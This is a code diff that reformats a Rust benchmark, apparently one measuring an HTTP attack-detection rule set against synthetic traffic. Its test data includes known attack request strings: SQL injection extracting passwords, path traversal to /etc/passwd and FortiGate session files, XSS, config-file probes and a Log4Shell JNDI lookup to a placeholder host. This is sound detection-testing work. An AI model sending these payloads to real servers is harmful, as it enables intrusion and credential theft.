@@ -13,15 +13,32 @@ const N: usize = 200_000;
 
 fn requests() -> Vec<HttpRequest> {
     let benign_paths = [
-        "/", "/index.html", "/css/site.css?v=3", "/js/app.min.js", "/images/logo.png", "/blog/2024/05/rust-tips.html",
-        "/search?q=red+shoes&page=2", "/products/12345?color=blue&size=M", "/api/v1/items?limit=20&offset=40",
-        "/favicon.ico", "/login", "/cart/add?id=998&qty=1", "/news/article-5512.html?utm_source=twitter&utm_medium=social",
-        "/static/fonts/inter.woff2", "/wp-content/uploads/2023/01/photo.jpg", "/about-us", "/contact?ref=footer",
+        "/",
+        "/index.html",
+        "/css/site.css?v=3",
+        "/js/app.min.js",
+        "/images/logo.png",
+        "/blog/2024/05/rust-tips.html",
+        "/search?q=red+shoes&page=2",
+        "/products/12345?color=blue&size=M",
+        "/api/v1/items?limit=20&offset=40",
+        "/favicon.ico",
+        "/login",
+        "/cart/add?id=998&qty=1",
+        "/news/article-5512.html?utm_source=twitter&utm_medium=social",
+        "/static/fonts/inter.woff2",
+        "/wp-content/uploads/2023/01/photo.jpg",
+        "/about-us",
+        "/contact?ref=footer",
     ];
     let attacks = [
         "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
-        "/.env", "/wp-config.php.bak", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
-        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "/?x=${jndi:ldap://x.example/a}",
+        "/.env",
+        "/wp-config.php.bak",
+        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
+        "/?x=${jndi:ldap://x.example/a}",
     ];
     let agents = [
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
@@ -39,7 +56,11 @@ fn requests() -> Vec<HttpRequest> {
     (0..N)
         .map(|i| {
             let r = next();
-            let target = if r % 100 == 0 { attacks[(r / 100) as usize % attacks.len()] } else { benign_paths[(r >> 8) as usize % benign_paths.len()] };
+            let target = if r % 100 == 0 {
+                attacks[(r / 100) as usize % attacks.len()]
+            } else {
+                benign_paths[(r >> 8) as usize % benign_paths.len()]
+            };
             let mut req = from_line(&format!("GET {target} HTTP/1.1"));
             req.ts = i as i64 * 10_000;
             req.src_ip = Some(format!("198.51.100.{}", r % 250));
@@ -93,9 +114,15 @@ fn main() -> Result<(), Box<dyn std::error::Error>> {
     let reqs = requests();
     let builtin = RuleSet::builtin()?;
     measure("builtin", &builtin, &reqs);
-    let sigma = std::env::args().nth(1).map(PathBuf::from).unwrap_or_else(|| PathBuf::from("/work/shared/data/sigma-web"));
+    let sigma = std::env::args()
+        .nth(1)
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from("/work/shared/data/sigma-web"));
     if sigma.is_dir() {
-        let (with_sigma, warnings) = RuleSet::load(&LoadOptions { sigma_dirs: vec![sigma], ..LoadOptions::default() })?;
+        let (with_sigma, warnings) = RuleSet::load(&LoadOptions {
+            sigma_dirs: vec![sigma],
+            ..LoadOptions::default()
+        })?;
         println!("(sigma load warnings: {})", warnings.len());
         measure("builtin + sigma", &with_sigma, &reqs);
     } else {
